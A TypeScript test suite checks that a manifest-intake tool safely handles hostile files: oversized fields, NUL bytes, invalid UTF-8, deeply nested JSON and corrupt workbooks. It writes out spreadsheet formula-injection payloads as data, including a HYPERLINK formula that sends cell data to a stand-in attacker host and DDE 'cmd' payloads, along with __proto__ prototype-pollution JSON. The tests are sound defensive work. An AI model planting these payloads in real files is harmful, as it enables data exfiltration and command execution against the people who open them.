// Hostile input (issues 3 and 8): formula payloads, control characters, 10 MB fields, deeply
// nested JSON and invalid UTF-8 produce recorded errors or safe text, never a crash, and never
// stop the good rows beside them.
import { readFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type IntakeWorld, intakeWorld, writeWorkbook } from './intake-world';

let world: IntakeWorld;
beforeEach(() => {
  world = intakeWorld();
});
afterEach(() => {
  // Whatever went in, the database is whole and holds no NUL byte in any text.
  const sql = world.db.$client;
  expect(sql.pragma('integrity_check', { simple: true })).toBe('ok');
  for (const [table, columns] of [
    ['assets', ['client_id', 'version', 'source', 'url', 'name', 'description', 'client_tags']],
    ['manifest_errors', ['field', 'value', 'message']],
    ['asset_brands', ['brand']],
  ] as const) {
    for (const column of columns) {
      expect(
        sql.prepare(`SELECT COUNT(*) FROM ${table} WHERE instr(${column}, char(0)) > 0`).pluck().get(),
      ).toBe(0);
    }
  }
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  world.close();
});

const ok = (id: string) => `${id},https://cdn.example.com/${id}.mp4`;
const tenMegabytes = 'A'.repeat(10 * 1024 * 1024);

describe('hostile manifests', () => {
  it('stores formula payloads and control characters as the text they are', async () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      'bell\u0007escape\u001b[31mred\u001b[0m\u0008back',
      '\u202Eright-to-left override',
    ];
    world.write(
      'formulas.jsonl',
      payloads
        .map((name, i) =>
          JSON.stringify({ id: `=f${i}`, url: `https://cdn.example.com/${i}.mp4`, name, brands: [name] }),
        )
        .join('\n'),
    );
    const summary = await world.intake();
    expect(summary).toMatchObject({ rowsAccepted: payloads.length, rowsRejected: 0 });
    payloads.forEach((name, i) => {
      const asset = world.asset(`=f${i}`);
      expect(asset?.name).toBe(name);
      expect(world.lists(asset?.id ?? -1).brands).toEqual([name]);
    });
  });

  it('rejects a 10 MB field with a shortened value and reads the next row', async () => {
    world.write('big.csv', `id,url,name\n${ok('a1')},${tenMegabytes}\n${ok('a2')},fine\n`);
    world.write(
      'big.jsonl',
      `${JSON.stringify({ id: 'b1', url: 'https://cdn.example.com/b1.mp4', description: tenMegabytes })}\n${JSON.stringify({ id: 'b2', url: 'https://cdn.example.com/b2.mp4' })}\n`,
    );
    world.write(
      'big.json',
      JSON.stringify([
        { id: tenMegabytes, url: 'https://cdn.example.com/c1.mp4' },
        { id: 'c2', url: 'https://cdn.example.com/c2.mp4' },
      ]),
    );
    const summary = await world.intake();
    expect(summary).toMatchObject({ rowsRead: 6, rowsAccepted: 3, rowsRejected: 3 });
    expect(world.errors().map((e) => [e.file, e.line, e.field, e.value?.length, e.message])).toEqual([
      ['big.csv', 2, 'name', 121, 'name is longer than 512 characters'],
      ['big.json', 1, 'id', 121, 'id is longer than 256 characters'],
      ['big.jsonl', 1, 'description', 121, 'description is longer than 4000 characters'],
    ]);
    expect(
      world
        .allAssets()
        .map((a) => a.clientId)
        .sort(),
    ).toEqual(['a2', 'b2', 'c2']);
  });

  it('stops at a 20 MB quoted field that never closes, keeping the rows before it', async () => {
    world.write('open.csv', `id,url,name\n${ok('a1')},ok\n${ok('a2')},"${'x'.repeat(20 * 1024 * 1024)}\n`);
    const summary = await world.intake();
    expect(summary).toMatchObject({ rowsAccepted: 1, rowsRejected: 0 });
    expect(world.errors()).toEqual([
      expect.objectContaining({
        file: 'open.csv',
        line: 3,
        message: expect.stringMatching(
          /^not valid CSV from line 3 on: .*look for a quote " that is opened and never closed\)$/,
        ),
      }),
    ]);
  });

  it('rejects a NUL byte in a row, and takes a file with NUL bytes near its start as not text', async () => {
    const padding = Array.from({ length: 2000 }, (_, i) => ok(`p${i}`)).join('\n');
    world.write('late-nul.csv', `id,url,name\n${padding}\n${ok('n1')},bad\u0000name\n${ok('n2')},fine\n`);
    world.write('early-nul.csv', `id,url,name\n${ok('e1')},bad\u0000name\n`);
    const summary = await world.intake();
    expect(summary.filesUnreadable).toEqual([`${world.manifestDir}/early-nul.csv`]);
    expect(world.errors().map((e) => [e.file, e.line, e.field, e.value])).toEqual([
      ['early-nul.csv', null, null, null],
      ['late-nul.csv', 2002, 'name', 'bad\\0name'],
    ]);
    expect(world.errors()[0]?.message).toMatch(/^the file is not text \(it holds a NUL byte at byte \d+\)/);
    expect(world.errors()[1]?.message).toBe(
      'name contains a NUL byte, so the file is probably not plain text: export it again as CSV UTF-8',
    );
    expect(world.asset('n2')).toBeDefined();
  });

  it('rejects bytes that are not UTF-8, in CSV, JSON Lines and JSON escapes, and reads the rest', async () => {
    const latin1 = Buffer.from(
      'id,url,name\na1,https://cdn.example.com/a1.mp4,Caf\xe9\na2,https://cdn.example.com/a2.mp4,ok\n',
      'latin1',
    );
    world.write('latin1.csv', latin1);
    world.write(
      'bytes.jsonl',
      Buffer.concat([
        Buffer.from('{"id": "b1", "url": "https://cdn.example.com/b1.mp4", "name": "x'),
        Buffer.from([0xc3, 0x28, 0xff]),
        Buffer.from('"}\n{"id": "b2", "url": "https://cdn.example.com/b2.mp4"}\n'),
      ]),
    );
    world.write(
      'surrogate.json',
      '[{"id": "s1\\ud800", "url": "https://cdn.example.com/s1.mp4"}, {"id": "s2", "url": "https://cdn.example.com/s2.mp4"}]',
    );
    const summary = await world.intake();
    expect(summary).toMatchObject({ rowsRead: 6, rowsAccepted: 3, rowsRejected: 3 });
    expect(world.errors().map((e) => [e.file, e.line, e.field])).toEqual([
      ['bytes.jsonl', 1, 'name'],
      ['latin1.csv', 2, 'name'],
      ['surrogate.json', 1, 'id'],
    ]);
    for (const e of world.errors())
      expect(e.message).toMatch(/ is not valid UTF-8 text .*save the file as UTF-8/);
    expect(
      world
        .allAssets()
        .map((a) => a.clientId)
        .sort(),
    ).toEqual(['a2', 'b2', 's2']);
  });

  it('takes deeply nested JSON as a rejected row, in JSON and JSON Lines, without recursion', async () => {
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
    world.write(
      'deep.json',
      `[{"id": ${deep}, "url": "https://cdn.example.com/d1.mp4"}, ${deep}, {"id": "d3", "url": "https://cdn.example.com/d3.mp4"}]`,
    );
    world.write(
      'deep.jsonl',
      `{"id": "e1", "url": "https://cdn.example.com/e1.mp4", "channels": ${deep}}\n{"id": "e2", "url": "https://cdn.example.com/e2.mp4"}\n`,
    );
    world.write('deep-root.json', deep);
    const summary = await world.intake();
    expect(summary.files.map((f) => [f.path.split('/').pop(), f.rowsAccepted, f.rowsRejected])).toEqual([
      ['deep-root.json', 0, 1],
      ['deep.json', 1, 2],
      ['deep.jsonl', 1, 1],
    ]);
    expect(
      world.errors().map((e) => [e.file, e.line, e.field, e.value === null ? null : e.value.slice(0, 16)]),
    ).toEqual([
      ['deep-root.json', 1, null, null],
      ['deep.json', 1, 'id', '[object Array]'],
      ['deep.json', 2, null, null],
      ['deep.jsonl', 1, 'channels', '[object Array]'],
    ]);
  });

  it('survives an item with 100,000 keys, __proto__ keys and tag names, naming at most 50 unknown columns', async () => {
    const keys = Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`k${i}`, i]));
    world.write('keys.json', JSON.stringify([{ id: 'k1', url: 'https://cdn.example.com/k1.mp4', ...keys }]));
    world.write(
      'proto.jsonl',
      '{"id": "p1", "url": "https://cdn.example.com/p1.mp4", "__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "tag:__proto__": "x", "clientTags": {"__proto__": {"polluted": 1}}}\n',
    );
    const summary = await world.intake();
    expect(summary.rowsAccepted + summary.rowsRejected).toBe(2);
    expect(world.asset('k1')).toBeDefined();
    const columns = world.errors().find((e) => e.file === 'keys.json');
    expect(columns).toMatchObject({
      severity: 'warning',
      message: expect.stringMatching(/k49 and 99950 more \(rename/),
    });
    // The tag: column wins over the clientTags object; neither touches a prototype.
    expect(
      world.db.$client.prepare("SELECT client_tags FROM assets WHERE client_id = 'p1'").pluck().get(),
    ).toBe('{"__proto__":"x"}');
    expect(world.errors().filter((e) => e.file === 'proto.jsonl')).toEqual([
      expect.objectContaining({ severity: 'warning', value: '__proto__, constructor' }),
    ]);
  });

  it('reads a CSV header of 20,000 columns and a cell of 1,000 list items', async () => {
    const header = ['id', 'url', ...Array.from({ length: 20_000 }, (_, i) => `extra${i}`)].join(',');
    const items = Array.from({ length: 1000 }, (_, i) => `m${i}`).join(';');
    world.write('wide.csv', `${header},markets\n${ok('w1')}${','.repeat(20_001)}${items}\n${ok('w2')}\n`);
    const summary = await world.intake();
    expect(summary).toMatchObject({ rowsAccepted: 1, rowsRejected: 1 });
    expect(world.errors().filter((e) => e.severity === 'error')).toEqual([
      expect.objectContaining({ line: 2, field: 'markets', message: 'markets has more than 100 items' }),
    ]);
  });

  it('records a corrupt workbook and a workbook with an empty sheet without hanging', async () => {
    const good = await writeWorkbook(`${world.dir}/good.xlsx`, [
      [
        'S',
        [
          ['id', 'url'],
          ...Array.from({ length: 300 }, (_, i) => [`x${i}`, `https://cdn.example.com/${i}.mp4`]),
        ],
      ],
    ]);
    const bytes = readFileSync(good);
    for (let i = 1000; i < 1100; i++) bytes[i] = ((bytes[i] ?? 0) * 7 + 13) & 255;
    world.write('corrupt.xlsx', bytes);
    await writeWorkbook(`${world.manifestDir}/blank.xlsx`, [['S', []]]);
    const summary = await world.intake();
    expect(summary.files.map((f) => [f.path.split('/').pop(), f.status])).toEqual([
      ['blank.xlsx', 'read'],
      ['corrupt.xlsx', 'unreadable'],
    ]);
    expect(world.errors().map((e) => [e.file, e.severity, e.message])).toEqual([
      ['blank.xlsx', 'warning', 'the file holds no rows: nothing was read from it'],
      [
        'corrupt.xlsx',
        'error',
        expect.stringMatching(/^not a readable \.xlsx workbook: .*save it again as \.xlsx$/),
      ],
    ]);
  });
});
